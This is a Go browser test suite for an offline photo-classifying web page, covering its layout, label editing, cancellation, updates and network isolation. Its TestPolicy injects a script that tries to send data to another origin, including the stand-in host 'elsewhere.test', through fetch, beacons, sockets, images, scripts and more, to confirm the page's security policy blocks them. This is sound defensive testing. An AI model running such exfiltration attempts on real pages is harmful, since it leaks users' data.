package test

import (
	"encoding/json"
	"fmt"
	"image"
	"image/jpeg"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/dom"
	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestPhotos(t *testing.T) {
	p := newPage(t)
	p.view(1200, 900, "light")
	p.open(tinySite(t).URL)
	p.save("start")
	p.choose(threePhotos(t)...)

	assert.Equal(t, "3 photos", p.text("#summary"))
	assert.Equal(t, []string{"stripes.png", "evening.jpg", "walk.jpeg"}, p.texts(".card .file"), "in the order given")
	for _, sentence := range p.texts(".because") {
		assert.Regexp(t, `^because there is [a-z ]+, [a-z ]+$`, sentence)
	}
	assert.Len(t, p.texts(".because"), 3)
	for i, name := range p.texts(".category") {
		assert.Contains(t, []string{"zebra", "sunset", "forest"}, strings.TrimPrefix(name, "perhaps "), "card %d", i)
	}
	assert.Equal(t, []int{320, 480, 360}, eval[[]int](p, `Promise.all([...document.images].filter((m) => m.closest(".card")).map((m) => m.decode().then(() => m.naturalWidth)))`),
		"thumbnails are at most 480 pixels")

	p.do(`document.querySelector(".card details").open = true`)
	shares := p.texts(".card:first-child .bars:first-of-type dd")
	assert.Len(t, shares, 3, "one bar a category")
	assert.Contains(t, p.text(".card:first-child .explain"), "looked at closely")
	assert.Regexp(t, `^open .* · resize .* · image .* · reasons`, p.text(".card:first-child .timings"))
	assert.Contains(t, p.text("#live"), "stripes.png: ")
	p.save("desktop")
	p.do(`document.querySelector("#labels").open = true`)
	p.view(360, 3400, "light")
	assert.Zero(t, eval[int](p, `document.documentElement.scrollWidth - 360`), "no sideways scrolling on a small phone")
	p.save("phone")
	p.view(1200, 1600, "dark")
	p.save("dark")

	p.run(chromedp.Click(chromedp.CSS(".card:first-child .remove")))
	assert.Equal(t, []string{"evening.jpg", "walk.jpeg"}, p.texts(".card .file"))
	p.run(chromedp.Click(chromedp.CSS("#clear")))
	assert.Empty(t, p.texts(".card"))
	assert.Empty(t, p.complaints())
}

// TestRealWeights shows the page with the weights that are shipped.
func TestRealWeights(t *testing.T) {
	s := realSite(t)
	p := newPage(t)
	p.view(1200, 900, "light")
	p.open(s.URL)
	require.NotEmpty(t, s.assets.Embeddings)
	assert.Empty(t, p.text("#notes"), "the prepared embeddings fit")
	p.choose(threePhotos(t)...)
	assert.Len(t, p.texts(".because"), 3)
	p.do(`for (const d of document.querySelectorAll(".card details")) d.open = true`)
	p.save("desktop")
	assert.Empty(t, p.complaints())
}

// answers returns each card's category, probability and reasons.
func (p *page) answers() []string {
	p.t.Helper()
	p.waitIdle()
	return eval[[]string](p, `[...document.querySelectorAll(".card")].map((c) => c.querySelector(".answer").textContent + " " + c.querySelector(".because").textContent)`)
}

func TestMethods(t *testing.T) {
	p := newPage(t)
	p.open(tinySite(t).URL)
	p.choose(threePhotos(t)...)
	seen := map[string][]string{"ecor": p.answers()}
	p.do(`globalThis.decoded = 0; const decode = createImageBitmap; globalThis.createImageBitmap = (...a) => (decoded++, decode(...a))`)
	for _, method := range []string{"clip", "independent", "inverted", "joint", "ecor"} {
		p.run(chromedp.Click(chromedp.CSS(fmt.Sprintf(`input[value=%s] + span`, method))))
		now := p.answers()
		require.Len(t, now, 3)
		if method == "ecor" {
			assert.Equal(t, seen["ecor"], now, "back to where it was")
			continue
		}
		for other, answers := range seen {
			assert.NotEqual(t, answers, now, "%s and %s", method, other)
		}
		seen[method] = now
		assert.NotContains(t, p.text(".timings"), "image", "%s: nothing of the image is done again", method)
	}
	assert.Contains(t, seen["clip"][0], "gives no reasons")
	assert.Empty(t, p.complaints())
}

// set types text into a field as a person does.
func (p *page) set(selector, text string) {
	p.t.Helper()
	p.do(fmt.Sprintf(`{ const e = document.querySelector(%q); e.focus(); e.select(); }`, selector))
	p.run(chromedp.KeyEvent(text))
}

func (p *page) waitApplied() {
	p.t.Helper()
	p.waitFor(`document.querySelector("#label-status").textContent.startsWith("Applied")`)
}

func TestLabels(t *testing.T) {
	p := newPage(t)
	p.open(tinySite(t).URL)
	p.choose(threePhotos(t)...)
	before := p.answers()
	p.run(chromedp.Click(chromedp.CSS("#labels > summary")))
	assert.Equal(t, "3 categories, 7 reasons", p.text("#label-counts"))

	// Searching finds reasons too.
	p.set("#label-search", "shadows")
	assert.Equal(t, []string{"sunset", "forest"}, p.texts("#label-list button"))
	p.run(chromedp.KeyEvent(kb.Escape))
	assert.Len(t, p.texts("#label-list button"), 3)

	// Mistakes are named where they are made, and cannot be applied.
	p.run(chromedp.Click(chromedp.CSS("#label-add")))
	p.set("#label-name", "Zebra")
	assert.Equal(t, `The category "Zebra" has no rationale; at least one is needed.`, p.text("#label-problem"))
	assert.True(t, eval[bool](p, `document.querySelector("#label-apply").disabled`))
	p.set("#label-rationales", "a desk\na lamp\na desk")
	assert.Contains(t, p.text("#label-problem"), `rationale "a desk" is given twice`)
	p.set("#label-rationales", "a desk\na lamp")
	assert.Contains(t, p.texts("#label-list button.bad"), "zebra", "the second of the two that are equal")
	p.set("#label-name", "office")
	assert.Empty(t, p.text("#label-problem"))

	// Applying scores the photos again, from what is already known of them.
	p.run(chromedp.Click(chromedp.CSS("#label-apply")))
	p.waitApplied()
	after := p.answers()
	assert.NotEqual(t, before, after)
	p.do(`document.querySelector(".card details").open = true`)
	assert.Contains(t, p.texts(".card:first-child .bars:first-of-type dt"), "office")
	assert.NotContains(t, p.text(".timings"), "image")

	// Export gives a pack that import takes; reset brings the first one back.
	file := filepath.Join(t.TempDir(), "two.json")
	require.NoError(t, os.WriteFile(file, []byte(`{"format":"ecor-labels-1","name":"two","categories":{"night":["a moon"],"day":["a sun"]}}`), 0o600))
	p.run(chromedp.SetUploadFiles(chromedp.CSS("#label-file"), []string{file}))
	p.waitFor(`document.querySelector("#label-status").textContent.startsWith("Imported two")`)
	p.run(chromedp.Click(chromedp.CSS("#label-apply")))
	p.waitApplied()
	for _, a := range p.answers() {
		assert.Regexp(t, `night|day`, a)
	}
	p.run(chromedp.Click(chromedp.CSS("#label-reset")), chromedp.Click(chromedp.CSS("#label-apply")))
	p.waitApplied()
	assert.Equal(t, before, p.answers())

	require.NoError(t, os.WriteFile(file, []byte(`{"format":"ecor-labels-1","categories":{"night":[]}}`), 0o600))
	p.run(chromedp.SetUploadFiles(chromedp.CSS("#label-file"), []string{file}))
	p.waitFor(`document.querySelector("#label-status").textContent.includes("was not imported")`)
	assert.Contains(t, p.text("#label-status"), `"night" has no rationale`)
	assert.Empty(t, p.complaints())
}

func TestBrokenFiles(t *testing.T) {
	p := newPage(t)
	p.open(tinySite(t).URL)
	dir := t.TempDir()
	write := func(name string, content []byte) string {
		file := filepath.Join(dir, name)
		require.NoError(t, os.WriteFile(file, content, 0o600))
		return file
	}
	p.choose(
		writePhoto(t, dir, "first.png", "zebra", 200, 150),
		write("empty.jpg", nil),
		write("letter.jpg", []byte(strings.Repeat("Dear reader, this is no photo. ", 20))),
		write("bomb.png", pngHeader(30000, 30000)),
		write("header.png", pngHeader(300, 200)),
		writePhoto(t, dir, "last.jpg", "forest", 200, 150),
	)
	assert.Equal(t, []string{
		"The file is empty (0 bytes).",
		"This is not a JPEG, PNG, GIF or WebP image.",
		"The image is 30000 × 30000 pixels, 900 million; the limit is 128 million.",
		"The browser cannot decode this PNG file; it may be damaged.",
	}, p.texts(".card .error"))
	assert.Len(t, p.texts(".because"), 2, "the good ones are answered")
	assert.Contains(t, p.text("#live"), "bomb.png: The image is 30000")
	p.save("cards")
	assert.Empty(t, p.complaints())
}

// slowPack has so many pairs of categories and reasons that a photo takes a while.
func slowPack(t *testing.T) string {
	t.Helper()
	categories := map[string][]string{}
	for i := range 400 {
		for j := range 8 {
			name := fmt.Sprintf("thing number %d", i)
			categories[name] = append(categories[name], fmt.Sprintf("feature %d of some kind", (7*i+j)%150))
		}
	}
	text, err := json.Marshal(map[string]any{"format": "ecor-labels-1", "name": "slow", "categories": categories})
	require.NoError(t, err)
	file := filepath.Join(t.TempDir(), "slow.json")
	require.NoError(t, os.WriteFile(file, text, 0o600))
	return file
}

func TestCancel(t *testing.T) {
	p := newPage(t)
	p.open(tinySite(t).URL)
	p.run(chromedp.SetUploadFiles(chromedp.CSS("#label-file"), []string{slowPack(t)}))
	p.waitFor(`document.querySelector("#label-status").textContent.startsWith("Imported")`)
	p.do(`document.querySelector("#label-apply").click()`)
	p.waitApplied()
	p.run(chromedp.SetUploadFiles(chromedp.CSS("#picker"), threePhotos(t)))
	p.waitFor(`document.querySelector(".status")?.textContent.includes(" of ")`)

	started := time.Now()
	p.run(chromedp.KeyEvent(kb.Escape))
	p.waitIdle()
	assert.Less(t, time.Since(started), 2*time.Second)
	assert.Equal(t, slices.Repeat([]string{"Cancelled before it was done."}, 3), p.texts(".card .error"))

	// Trying again works; another method or other labels overtake what is running.
	p.do(`for (const b of document.querySelectorAll(".card button.quiet")) b.click()`)
	p.waitFor(`document.querySelector(".status")?.textContent.includes(" of ")`)
	p.do(`document.querySelector("input[value=clip]").click()`)
	p.waitIdle()
	assert.Len(t, p.texts(".because"), 3)
	assert.Contains(t, p.text(".because"), "gives no reasons")
	p.do(`document.querySelector("input[value=ecor]").click()`)
	p.waitFor(`document.querySelector(".status")?.textContent.includes(" of ")`)
	p.run(chromedp.KeyEvent(kb.Escape))
	p.waitIdle()

	p.do(`document.querySelector("#label-reset").click(); document.querySelector("#label-apply").click()`)
	p.waitApplied()
	for _, answer := range p.answers() {
		assert.Regexp(t, "zebra|sunset|forest", answer)
	}
	assert.Empty(t, p.complaints())
}

// TestOffline ends the server after the first visit.
func TestOffline(t *testing.T) {
	s := tinySite(t)
	p := newPage(t)
	p.open(s.URL)
	assert.Equal(t, "Ready offline", p.text("#offline"))
	photos := threePhotos(t)
	p.choose(photos...)
	first := p.answers()

	s.Server.CloseClientConnections()
	s.Server.Close()
	chromium.proxy.take()
	p.run(chromedp.Reload())
	p.open(s.URL)
	assert.Equal(t, "Ready offline", p.text("#offline"))
	p.choose(photos...)
	assert.Equal(t, first, p.answers())
	for _, request := range chromium.proxy.take() {
		if !ofBrowser(request) {
			assert.Equal(t, strings.TrimPrefix(s.URL, "http://")+" /sw.js", request, "only the browser's check of the service worker")
		}
	}
	headers := eval[map[string]string](p, `(async () => {
		const cache = await caches.open((await caches.keys())[0]);
		const worker = (await cache.keys()).find((key) => key.url.includes("/worker.js?"));
		return Object.fromEntries((await cache.match(worker)).headers);
	})()`)
	assert.Contains(t, headers["content-security-policy"], "connect-src 'none'")
	assert.Contains(t, headers["cross-origin-embedder-policy"], "require-corp")
}

// ofBrowser tells requests that Chromium makes for itself, whatever the page.
func ofBrowser(request string) bool {
	host, _, _ := strings.Cut(request, " ")
	return strings.HasSuffix(host, ".google.com:443") || strings.HasSuffix(host, ".googleapis.com:443")
}

// TestNothingLeaves records every request of a whole visit.
func TestNothingLeaves(t *testing.T) {
	s := tinySite(t)
	p := newPage(t)
	p.open(s.URL)
	own := strings.TrimPrefix(s.URL, "http://") + " "
	for _, request := range chromium.proxy.take() {
		assert.True(t, strings.HasPrefix(request, own) || ofBrowser(request), request)
	}
	p.choose(threePhotos(t)...)
	p.run(chromedp.Click(chromedp.CSS(`input[value=joint] + span`)))
	p.answers()
	for _, request := range chromium.proxy.take() {
		assert.True(t, ofBrowser(request) || request == own+"/sw.js", "after installing: %s", request)
	}
}

// attempts tries to send data away in every way that a script has.
const attempts = `(async (there) => {
	const failed = [];
	const expect = (name, promise) => promise.then(() => {}, () => failed.push(name));
	await expect("fetch", fetch(there + "/fetch", { mode: "no-cors", method: "POST", body: "a photo" }));
	await expect("beacon", Promise.resolve().then(() => { if (globalThis.document && navigator.sendBeacon(there + "/beacon", "x")) return; throw 0; }));
	await expect("request", new Promise((ok, no) => { const r = new XMLHttpRequest(); r.onload = ok; r.onerror = no; r.open("GET", there + "/xhr"); r.send(); }));
	await expect("socket", new Promise((ok, no) => { const s = new WebSocket(there.replace("http", "ws") + "/socket"); s.onopen = ok; s.onerror = no; }));
	await expect("events", new Promise((ok, no) => { const s = new EventSource(there + "/events"); s.onopen = ok; s.onerror = () => { s.close(); no(); }; }));
	if (globalThis.document) {
		await expect("image", new Promise((ok, no) => { const m = new Image(); m.onload = ok; m.onerror = no; m.src = there + "/image"; }));
		await expect("style", new Promise((ok, no) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = ok; l.onerror = no; l.href = there + "/style"; document.head.append(l); }));
		await expect("script", Promise.resolve().then(() => { const e = document.createElement("script"); e.src = there + "/script"; }));
		await expect("frame", Promise.resolve().then(() => { document.createElement("iframe").srcdoc = "x"; }));
		await expect("markup", Promise.resolve().then(() => { document.body.innerHTML = "<img src=" + there + "/markup>"; }));
	} else {
		await expect("import", Promise.resolve().then(() => importScripts(there + "/import")));
	}
	await expect("eval", Promise.resolve().then(() => eval("1")));
	return failed;
})(%q)`

// TestPolicy injects scripts that try to send data to another origin, into the
// page and into its worker.
func TestPolicy(t *testing.T) {
	var reached atomic.Int32
	there := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) }))
	defer there.Close()
	p := newPage(t)
	p.open(tinySite(t).URL)

	fails := func(where *page, names ...string) {
		t.Helper()
		for _, origin := range []string{there.URL, "http://elsewhere.test"} {
			v, err := chromedp.Run(where.ctx, chromedp.Evaluate[[]string](fmt.Sprintf(attempts, origin), chromedp.EvalAwaitPromise, denyEval))
			require.NoError(t, err)
			assert.Subset(t, v, names)
		}
	}
	fails(p, "fetch", "request", "socket", "events", "image", "style", "script", "frame", "markup", "eval")
	fails(p.worker(), "fetch", "request", "socket", "events", "import", "eval")
	assert.Zero(t, reached.Load())
	for _, request := range chromium.proxy.take() {
		assert.NotContains(t, request, "elsewhere.test")
	}
}

// denyEval holds a script to the page's policy where it calls eval itself.
func denyEval(e *runtime.EvaluateParams) { e.AllowUnsafeEvalBlockedByCSP = new(bool) }

// worker returns the page's worker.
func (p *page) worker() *page {
	p.t.Helper()
	targets, err := chromedp.Targets(p.ctx)
	require.NoError(p.t, err)
	own := chromedp.FromContext(p.ctx).BrowserContextID
	for _, info := range targets {
		if info.Type == "worker" && info.BrowserContextID == own {
			return p.attach(info.TargetID)
		}
	}
	require.Fail(p.t, "the page has no worker", "%v", targets)
	return nil
}

func (p *page) attach(id target.ID) *page {
	p.t.Helper()
	ctx, cancel := chromedp.NewContext(p.ctx, chromedp.WithTargetID(id))
	p.t.Cleanup(cancel)
	require.NoError(p.t, chromedp.Do(ctx))
	return &page{t: p.t, ctx: ctx}
}

// TestWorkerIsReplaced makes the module trap once: the photo is tried again in a new worker.
func TestWorkerIsReplaced(t *testing.T) {
	p := newPage(t)
	p.open(tinySite(t).URL)
	p.worker().do(`Uint8Array.prototype.set = () => { throw new WebAssembly.RuntimeError("unreachable") }`)
	photos := threePhotos(t)
	p.choose(photos...)
	assert.Empty(t, p.texts(".card .error"))
	assert.Len(t, p.texts(".because"), 3)
}

// TestKeyboard goes through the page without a pointer.
func TestKeyboard(t *testing.T) {
	p := newPage(t)
	p.open(tinySite(t).URL)
	at := func() string {
		return eval[string](p, `(() => { const e = document.activeElement; return e.id || e.value || e.className || e.parentElement.id || e.parentElement.parentElement.className })()`)
	}
	press := func(keys string) { p.run(chromedp.KeyEvent(keys)) }
	tab := func(want string) {
		t.Helper()
		press(kb.Tab)
		require.Equal(t, want, at())
		assert.NotEqual(t, "none", eval[string](p, `(() => { const e = document.activeElement; return getComputedStyle(e.matches(".segments input") ? e.nextElementSibling : e).outlineStyle })()`), "%s: focus is visible", want)
	}

	tab("skip")
	tab("choose")
	_, err := chromedp.Call(p.ctx, cdppage.SetInterceptFileChooserDialog, cdppage.SetInterceptFileChooserDialogParams{Enabled: true})
	require.NoError(t, err)
	opened := chromedp.Events(p.ctx, cdppage.FileChooserOpened)
	press(kb.Enter)
	for chooser, err := range opened {
		require.NoError(t, err)
		_, err = chromedp.Call(p.ctx, dom.SetFileInputFiles, dom.SetFileInputFilesParams{Files: threePhotos(t), BackendNodeID: chooser.BackendNodeID})
		require.NoError(t, err)
		break
	}
	p.waitFor(`document.querySelectorAll(".card").length === 3`)
	before := p.answers()

	tab("ecor")
	press(kb.ArrowRight)
	require.Equal(t, "clip", at())
	assert.NotEqual(t, before, p.answers(), "the arrow chooses")
	tab("labels")
	press(kb.Enter)
	tab("label-search")
	press("forest")
	tab("forest")
	press(" ")
	assert.Equal(t, "forest", eval[string](p, `document.querySelector("#label-name").value`))
	tab("label-add")
	tab("label-name")
	press("wood")
	tab("label-rationales")
	tab("label-remove")
	tab("label-apply")
	press(kb.Enter)
	p.waitApplied()
	p.waitIdle()

	p.do(`document.querySelector("#clear").focus()`)
	tab("remove")
	tab("card")
	press(kb.Enter)
	assert.True(t, eval[bool](p, `document.querySelector(".card details").open`))
	p.do(`document.querySelector(".card .remove").focus()`)
	press(kb.Enter)
	assert.Len(t, p.texts(".card .file"), 2)
	require.Equal(t, "remove", at(), "the focus stays in the list")
	assert.Empty(t, p.complaints())
}

// TestLargePhoto sends 48 million pixels, 192 MB as RGBA, into a module that
// keeps a few rows of them.
func TestLargePhoto(t *testing.T) {
	const width, height = 8000, 6000
	m := image.NewYCbCr(image.Rect(0, 0, width, height), image.YCbCrSubsampleRatio420)
	for i := range m.Y {
		m.Y[i] = byte(i / width / 24)
	}
	for i := range m.Cb {
		m.Cb[i], m.Cr[i] = byte(i%(width/2)/16), 140
	}
	file := filepath.Join(t.TempDir(), "large.jpg")
	f, err := os.Create(file)
	require.NoError(t, err)
	require.NoError(t, jpeg.Encode(f, m, nil))
	require.NoError(t, f.Close())

	p := newPage(t)
	p.open(tinySite(t).URL)
	p.worker().do(`{
		const set = Uint8Array.prototype.set;
		Uint8Array.prototype.set = function (...a) { globalThis.moduleBytes = this.buffer.byteLength; return set.apply(this, a); };
	}`)
	p.choose(file)
	assert.Len(t, p.texts(".because"), 1, "%v", p.texts(".card .error"))
	assert.Equal(t, "8000 × 6000", eval[string](p, `document.querySelector(".card img").title`))
	bytes := eval[float64](p.worker(), `globalThis.moduleBytes`)
	assert.Less(t, bytes, 64e6, "the module's memory in bytes")
	t.Logf("%.1f MB, %s", bytes/1e6, p.text(".timings"))
}

// contrasts returns the text elements whose contrast with what is behind them
// is below WCAG's AA, 4.5 to 1, or 3 to 1 for large text. Disabled controls are exempt.
const contrasts = `(() => {
	const channels = (color) => color.match(/[\d.]+/g).map(Number);
	const luminance = ([r, g, b]) => [r, g, b].map((v) => v / 255).map((v) => (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4))
		.reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
	const behind = (e) => { for (; e; e = e.parentElement) { const c = channels(getComputedStyle(e).backgroundColor); if (c.length < 4 || c[3] === 1) return c; } };
	const low = [];
	for (const e of document.querySelectorAll("body *")) {
		const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim()) || e.matches("input:not([type=radio]), textarea");
		if (!own || !e.checkVisibility() || e.disabled) continue;
		const style = getComputedStyle(e);
		const [a, b] = [luminance(channels(style.color)), luminance(behind(e))].sort((x, y) => y - x);
		const large = parseFloat(style.fontSize) >= 24 || (parseFloat(style.fontSize) >= 18.66 && style.fontWeight >= 700);
		const ratio = (a + 0.05) / (b + 0.05);
		if (ratio < (large ? 3 : 4.5)) low.push(e.outerHTML.slice(0, 80) + " " + ratio.toFixed(2));
	}
	return low;
})()`

func TestContrast(t *testing.T) {
	p := newPage(t)
	p.open(tinySite(t).URL)
	empty := filepath.Join(t.TempDir(), "empty.jpg")
	require.NoError(t, os.WriteFile(empty, nil, 0o600))
	p.choose(append(threePhotos(t), empty)...)
	p.do(`for (const d of document.querySelectorAll("details")) d.open = true`)
	p.set("#label-rationales", "a mane\na mane") // a mistake, for its message
	require.NotEmpty(t, p.text("#label-problem"))
	for _, scheme := range []string{"light", "dark"} {
		p.view(1200, 4000, scheme)
		p.run(chromedp.Sleep(400 * time.Millisecond)) // cards have arrived
		assert.Empty(t, eval[[]string](p, contrasts), scheme)
	}
}

// TestUpdate puts another version of the site on the server.
func TestUpdate(t *testing.T) {
	first := tinySite(t)
	p := newPage(t)
	p.open(first.URL)
	version := func() string {
		about := p.text("#about")
		return strings.TrimSuffix(about[strings.LastIndex(about, " ")+1:], ".")
	}
	require.Equal(t, first.assets.Version, version())

	weights := t.TempDir()
	require.NoError(t, os.CopyFS(weights, os.DirFS(first.file("weights"))))
	pack := strings.Replace(smallPack, `"zebra"`, `"striped horse"`, 1)
	require.NoError(t, os.WriteFile(filepath.Join(weights, "small.json"), []byte(pack), 0o600))
	require.NoError(t, os.Remove(filepath.Join(weights, "small.json.gz")))
	second := serve(t, weights)
	require.NotEqual(t, first.assets.Version, second.assets.Version)
	first.Config.Handler = second.Config.Handler
	chromium.proxy.take()

	// The old version goes on, whole, until its last tab is closed.
	p.run(chromedp.Reload())
	p.waitFor(`document.querySelector("#offline").textContent.includes("new version")`)
	p.waitFor(`document.body.dataset.model === "ready"`)
	assert.Equal(t, first.assets.Version, version())
	p.run(chromedp.Navigate("about:blank"))
	p.waitFor(`location.href === "about:blank"`)
	for end := time.Now().Add(waitTimeout); ; {
		p.open(first.URL)
		if version() == second.assets.Version {
			break
		}
		require.True(t, time.Now().Before(end), "still version %s", version())
		p.run(chromedp.Navigate("about:blank"), chromedp.Sleep(200*time.Millisecond))
	}
	assert.Contains(t, p.texts("#label-list button"), "striped horse")
	for _, request := range chromium.proxy.take() {
		assert.NotContains(t, request, "tiny.safetensors", "what has not changed is not fetched again")
	}
	assert.Len(t, eval[[]string](p, `caches.keys()`), 1, "the old version is gone")
	assert.Empty(t, p.complaints())
}
